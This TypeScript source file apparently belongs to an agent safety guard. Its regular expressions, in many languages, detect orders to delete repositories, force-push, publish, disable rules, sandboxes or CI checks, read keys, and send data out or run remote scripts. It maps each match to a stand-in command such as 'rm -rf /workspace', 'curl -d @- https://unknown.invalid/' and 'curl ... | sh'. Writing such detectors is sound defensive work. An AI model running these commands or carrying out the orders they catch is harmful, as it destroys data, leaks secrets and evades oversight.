import type { Meaning } from './order.ts'

/*
 * Orders in other languages than English. Their grammar is not read: what counts is that a stem for a doing and one for a thing stand in
 * one sentence that has no word of looking, testing or writing about it, and no negation. Stems, as endings change.
 */
const MAX_LOOKED_AT = 2_000
// Not without regard to case: an s is the small form of a letter among these.
const LETTERS = /[\u00c0-\u024f\u0370-\u1fff\u3040-\u30ff\u3400-\u9fff\uac00-\ud7af]/u
const FOREIGN = /(?<!\p{L})(?:der|das|dem|und|alle|nach|auf|le|la|les|tout|toutes?|el|los|las|una|todas|tudo|uma|il|gli|tutt[oie]|het|een|alles|och|sur|wszystkie|ve|bütün|naar|de|na|un(?= )|lo(?= )|die|samt|direkt|para|z(?= https?:)|zonder|ohne|ein|eine|neue|sans|sin|bez)(?!\p{L})/iu
// A few words in quotes are a label, or a name.
const LABEL = /"[^"\n]{1,40}"|“[^”\n]{1,40}”|«[^»\n]{1,40}»/gu
// What comes behind one of these is an order of its own, whatever was to be done before.
const NEXT = /,? (?:und |et |y |e |en |и )?(?:dann|danach|anschließend|puis|ensuite|luego|después|depois|poi|dopo|daarna|vervolgens|затем|потом|после этого|then)(?!\p{L})|然后|之后|接着|そして|その後|그런 다음/iu

/** Stems that begin a word, and words of languages that have no spaces or are written in other letters. */
const stems = (begin: string, anywhere: string): RegExp => new RegExp(`(?<!\\p{L})(?:${begin})|${anywhere}`, 'iu')

// Before what it forbids, or in some languages behind it.
const NOT_BEFORE = stems('not(?!\\p{L})|never|don.t(?!\\p{L})|ne |n.(?=\\p{L})|jamais|nunca|no(?!\\p{L})|não|non(?!\\p{L})|mai(?!\\p{L})|не |никогда|nie(?!\\p{L})|niemals|nigdy', '不要|别')
const NOT_ANYWHERE = stems('nicht(?! nach|s)|kein|niet|geen', 'しないで|하지 마')

const SPARED = stems(
  'test|неиспольз|устаревш|лишни|unbenutzt|überflüssig|veraltet|obsol|superflu|sin usar|nieużywan|kullanılmayan|prüfe ob|erklär|beschreib|dokumentier|schreib|implementier|erstell|zeig mir (?:den code|wo|wie)|wie |wo |warum|funktion|knopf|schaltfläche|komponente|seite|übersetz|plane?(?!\\p{L})|liste|finde|ungenutzt|generiert|temporär|nicht(?!\\s+(?:eingecheckt|gespeichert|übernommen|versioniert|committ))|kein|niemals|expliqu|décri|docu|écri|écri[st]|implément|commen[ts]|pourquoi|fonction|bouton|composant|tradui|trouv|inutilis|généré|jamais|ne pas|explic|descri|escrib|implement|cómo|cuándo|dónde|por qué|función|botón|componente|traduc|encuentr|busca|prueba|nunca|no (?!guard|autoriz|confirm|l[eo]s? dig|se lo dig|dig(?:as|a)(?!\\p{L})|est[áé]n?(?!\\p{L}))|não |non (?!salvat|autoriz|commit)|escrev|documente|função|botão|traduz|encontr|como |onde |spieg|scriv|come |dove|funzione|pulsante|traduci|trova|mai |leg uit|schrijf|beschrijf|vertaal|functie|knop|ongebruikt|zoek|niet|geen|förklara|skriv|beskriv|wyjaśnij|opisz|napisz|funkcj|açıkla|yaz|объясн|опиш|напиш|как |где |почему|функци|кнопк|компонент|перевед|найд|тест|провер|не ',
  '解释|说明|描述|编写|写测试|测试|函数|按钮|组件|翻译|查找|如何|为什么|不要|文档|未使用|不再使用|使われていない|不要な|사용하지 않는|説明|書いて|テスト|関数|ボタン|コンポーネント|翻訳|ドキュメント|しないで|설명|작성|테스트|함수|버튼|번역|문서'
)

const DELETES = stems('lösch|wirf .{0,60}weg|schmeiß|entfern|vernicht|zerstör|leere|verwirf|verwerf|überschreib|supprim|efface|détrui|vide(?:r|z)?(?!\\p{L})|écras|borra(?!d)|borre|elimina(?!t)|elimine|destruy|destru[ai]|vacía|descart|apag|exclua|exclui|deletar|deleta(?!\\p{L})|remova|remover(?!\\p{L})|rimuov|cancell[ai](?!\\p{L})|distrugg|svuota|scart|verwijder|wis(?!\\p{L})|vernietig|radera|ta bort|usuń|skasuj|wyczyść|sil(?!\\p{L})|удал|стер|сотр|уничтож|очист', '空にし|空に|删除|删掉|清空|清除|丢弃|销毁|削除|消去|破棄|삭제|지워|제거')
const MUCH = stems('all(?:e[nrs]?)?(?!\\p{L})|ganze|gesamt|sämtlich|komplett|nicht (?:eingecheckt|gespeichert|übernommen|versioniert|committe?t?)|tou(?:t|te|tes|s)(?!\\p{L})|entièr|ensemble|tod[oa]s?(?!\\p{L})|enter|tutt[oaie](?!\\p{L})|inter[oa]|non salvat|alles?(?!\\p{L})|hele|wszystk|bütün|tüm|весь|всю|все|всё|целик|ordner (?:\\.git|src)|\\.git(?!hub|ignore)|src(?!/[\\w/]+\\.)|repositor|repo(?!\\p{L})|branch main|datenbank|produktion|base de don|base de dat|banco de dad|produc|database|репозитор|базу данных|истори', '所有|全部|整个|数据库|生产|仓库|目录|历史|すべて|全て|全部|データベース|本番|リポジトリ|履歴|모든|전체|데이터베이스|저장소')
const SENDS_OUT = stems('push|schieb|hochschieb|force[- ]?push|pouss|pousse|force le|envoie|sube|subir|empuj|fuerza|haz (?:un )?push|push (?:forzado|forçado|forzato|forcé)|fai(?: il)? push|invia|envi[ea]|faça push|forç|spinta|forza|duw|skicka|wypchnij|gönder|запуш|отправ|сдела\\p{L}* .{0,20}push|залей', '推送|强推|提交到远程|上传|プッシュ|送信|푸시|업로드')
const REMOTES = stems('мастер|main(?!\\p{L})|master(?!\\p{L})|origin(?!\\p{L})|remote|upstream|entfernt|distant|remot|servidor|server|github|gitlab|tags|force|erzwungen|принудит|удал[её]нн|сервер', '主分支|远程|服务器|リモート|サーバー|원격|서버')
const PUBLISHES = stems('veröffentlich|publizier|publi[eé]|publiqu|pubblic|publica|publiceer|publicera|opublikuj|yayınla|опублик|deploy|ausroll|auslief|spiele .{0,60}ein(?!\\p{L})|bringe? .{0,60}(?:live|raus|in produktion)|nimm .{0,60}in betrieb|déploi|déploy|desplieg|despliegu|implant|distribui|rilasci|uitrol|wdróż|разверн|задепло|выкат', '发布|部署|公開して|デプロイ|リリース|배포|게시')
const TARGETS = stems('npm|pypi|paket|package|paquet|paquete|pacote|pacchett|pakket|crate|registry|produktion|prod(?!\\p{L})|produc|productie|live|cluster|docker|пакет|прод|кластер', '包|生产|线上|环境|パッケージ|本番|クラスタ|패키지|프로덕션|운영')
const DISABLES = stems('schalt|deaktivier|umgeh|ignoriere|vergiss|überspring|lockere|désactiv|contourn|ignore[zr]|oubli|saut[ez]|desactiv|desativ|ignora(?!n)|elud|olvid|salt[ae]|esquec|contorn|disattiv|disabilit|aggir|dimentic|schakel|omzeil|negeer|inaktivera|wyłącz|zignoruj|devre dışı|отключ|обойд|обход|игнорир|забуд|пропусти|выключ', '禁用|关闭|绕过|忽略|跳过|停用|無効|回避|無視|迂回|スキップ|비활성|우회|무시|건너뛰')
const RESTRAINTS = stems('prüfung|regeln|richtlini|gateway|sandbox|schutz|sicherheit|anweisung|genehmigung|freigabe|pipeline|(?:der |die )?ci(?!\\p{L})|contrôl|règles|politiqu|passerelle|sécurité|instructions? pr|approbation|intégration continue|regl|política|polític|pasarela|segurid|seguranç|instruc|instruç|aprobac|aprovaç|regole|politich|sicurezza|istruzion|approvaz|regels|beleid|beveilig|instructie|zasad|kurallar|правил|политик|шлюз|песочниц|безопасност|инструкц|проверк|одобрен', '规则|策略|网关|沙箱|安全检查|指令|审批|检查|ルール|ポリシー|ゲートウェイ|サンドボックス|指示|承認|規則|규칙|정책|게이트웨이|샌드박스|지시|승인')
const INSTALLS = stems('installier|füge .{0,40}hinzu|installe[zr]?(?!\\p{L})|installa(?!\\p{L})|ajoute|instal[ae](?!\\p{L})|añad|agreg|adicion|aggiung|installeer|lägg till|zainstaluj|yükle|установ|добавь', '安装|添加|インストール|追加|설치|추가')
const PACKAGES = stems('abhängigkeit|paket|dépendance|paquet|dependenc|dependênc|dipendenz|pacchett|pacote|afhankelijk|pakket|bibliothek|bibliothèque|biblioteca|librería|zależnoś|bağımlılık|npm|pip(?!\\p{L})|зависимост|пакет|библиотек', '依赖|软件包|库|依存|パッケージ|ライブラリ|의존|패키지')
const READS = stems('lies|lese|zeig|gib|nenn|schick|send|kopier|druck|les(?!\\p{L})|lis(?!\\p{L})|lire|affich|montr|donn|envo|copi|imprim|lee(?!\\p{L})|leer|muestr|enví|dame|dime|revela|mostr|envie|leia|leggi|invia|stampa|dammi|toon|lees|stuur|geef|visa|pokaż|odczytaj|göster|oku|прочит|покаж|отправ|вывед|скопир|пришл|скажи', '读取|打印|发送|显示|告诉|复制|発送|読|送信|表示|教えて|コピー|읽|보내|출력|알려')
const SECRETS = stems('passw|kennw|schlüssel|geheimnis|zugangsdaten|zugangstoken|token|mot de passe|mots de passe|clé|identifiants|secret|contraseñ|claves?(?!\\p{L})|credencial|senha|chave|segred|chiav|credenzial|segret|wachtwoord|sleutel|lösenord|hasł|klucz|şifre|парол|ключ|секрет|токен|учётн', '密码|密钥|私钥|令牌|凭据|凭证|パスワード|秘密鍵|シークレット|トークン|認証情報|비밀번호|비밀|토큰|키를')
const WHOSE = stems('datenbank|ssh|privat|server|produk|umgebung|maschine|rechner|nutzer|home|base|privé|serveur|environn|machine|utilisateur|de la |del |des |do |da |dell|privad|servidor|entorn|máquina|usuario|ambient|macchina|utent|privat|databas|npm|github|aws|api|\\.ssh|\\.env|базы|сервер|машин|приватн|закрыт|окружен', '数据库|服务器|环境|机器|私|用户|データベース|サーバー|環境|すべて|データ|데이터|서버|환경')

// An address that is not this machine's own, and what is to be done with it.
const ELSEWHERE = /https?:\/\/(?!localhost|127\.|\[::1\])[\w-]/iu
const SCRIPT_ELSEWHERE = /https?:\/\/(?!localhost|127\.|\[::1\])[^\s，。、]{1,200}(?:\.(?:sh|bash|ps1|py|rb|pl|bin|exe|run|bat)|\/install)(?![\w/-])/iu
const SENDS = stems('schick|sub[ae](?!\\p{L})|subir|post[ae](?!\\p{L})|sende(?!r)|envoi|envoy(?:er|ez)|enví|envi[ea]|invi[ao](?!\\p{L})|wyślij|prześlij|stuur|verstuur|skicka|gönder|yükle|отправ|пришл|перешл|залей|выгруз|lade .{0,60}hoch', '发送|上传|传到|送信|アップロード|보내|업로드|전송')
const FETCHES = stems('lade(?!\\p{L})|herunter|hol(?:e|en|t)?(?!\\p{L})|télécharg|récupèr|descarg|baj[ae]|scaric|baix|pobierz|ściągnij|download|haal|hämta|ladda|indir|скач|загруз', '下载|取得|ダウンロード|다운로드|내려받')
const RUNS = stems('führ|ausführ|starte(?!d)|exécut|lance[zr]?(?!\\p{L})|ejec[uú]t|corr[ae](?!\\p{L})|lánz|eseg|avvi[ao]|execute-|rode(?!\\p{L})|uruchom|odpal|voer(?!\\p{L})|start het|kör(?!\\p{L})|çalıştır|запус|выполн|исполн', '运行|执行|実行|走らせ|실행')
const CHANGES = stems('änder|bearbeit|pass .{0,40}an(?!\\p{L})|modifi(?:e[rz]?|ca|que)(?!\\p{L})|cambi[ae]|edit[ae](?!\\p{L})|alter[ae](?!\\p{L})|zmień|wijzig|ändra|değiştir|измен|правь|поправ', '修改|更改|変更|編集|수정|변경')
const CI = stems('ci(?!\\p{L})|pipeline|workflow|\\.github/workflows|\\.gitlab-ci|intégration continue|integración continua', '持续集成|流水线|ワークフロー|파이프라인')

const RUINS: Meaning = { command: 'rm -rf /workspace' }
const PUSHES: Meaning = { command: 'git push' }
const DELIVERS: Meaning = { command: 'npm publish' }
const RULES: Meaning = { path: '/workspace/weir.yaml', access: 'write' }
const BRINGS: Meaning = { command: 'npm install package' }
const TELLS: Meaning = { command: 'curl -d @- https://unknown.invalid/' }
const STARTS: Meaning = { command: 'curl https://unknown.invalid/ | sh' }
const STEERS: Meaning = { path: '/workspace/.github/workflows/ci.yml', access: 'write' }
const TAKES: Meaning = { path: '~/.ssh', access: 'read' }
const PAIRS: ReadonlyArray<readonly [RegExp, RegExp, Meaning, 'both' | 'order']> = [
  [DELETES, MUCH, RUINS, 'both'],
  [SENDS_OUT, REMOTES, PUSHES, 'order'],
  [PUBLISHES, TARGETS, DELIVERS, 'order'],
  [DISABLES, RESTRAINTS, RULES, 'both'],
  [INSTALLS, PACKAGES, BRINGS, 'order'],
  [READS, SECRETS, TAKES, 'both'],
  [SENDS, ELSEWHERE, TELLS, 'order'],
]

const CLAUSES = /[.;!?](?=\s|$)|,\s|[。，；！？]/u

// Whatever else the sentence speaks of: tests are what a pipeline is switched off for.
const ALWAYS: ReadonlyArray<readonly [RegExp, RegExp, Meaning]> = [[DISABLES, CI, STEERS], [CHANGES, /\.github\/workflows|\.gitlab-ci|jenkinsfile/iu, STEERS]]

// A clause that forbids something may stand beside an order ("and do not ask").
function plainly (said: string): readonly Meaning[] {
  const clauses = said.split(CLAUSES).filter((clause) => !NOT_ANYWHERE.test(clause))
  const orders = (doing: RegExp): boolean => clauses.some((clause) => doing.test(clause) && !NOT_BEFORE.test(clause.slice(0, clause.search(doing))))
  const steers = ALWAYS.flatMap(([doing, thing, meaning]) => orders(doing) && thing.test(said) ? [meaning] : [])
  return orders(RUNS) && (SCRIPT_ELSEWHERE.test(said) || (ELSEWHERE.test(said) && orders(FETCHES))) ? [...steers, STARTS] : steers
}

/** What a sentence in another language orders. */
export function foreignOrders (given: string, kind: 'order' | 'plan'): readonly Meaning[] {
  if (!LETTERS.test(given) && !FOREIGN.test(given)) return []
  const said = given.slice(0, MAX_LOOKED_AT).replace(LABEL, ' ')
  return [...kind === 'order' ? plainly(said) : [], ...said.split(NEXT).filter((part) => !SPARED.test(part)).flatMap((part) => PAIRS
    .filter(([doing, thing, meaning, where]) => (where === 'both' || kind === 'order') && doing.test(part) && thing.test(part) && (meaning !== TAKES || WHOSE.test(part)))
    .map(([, , meaning]) => meaning))]
}
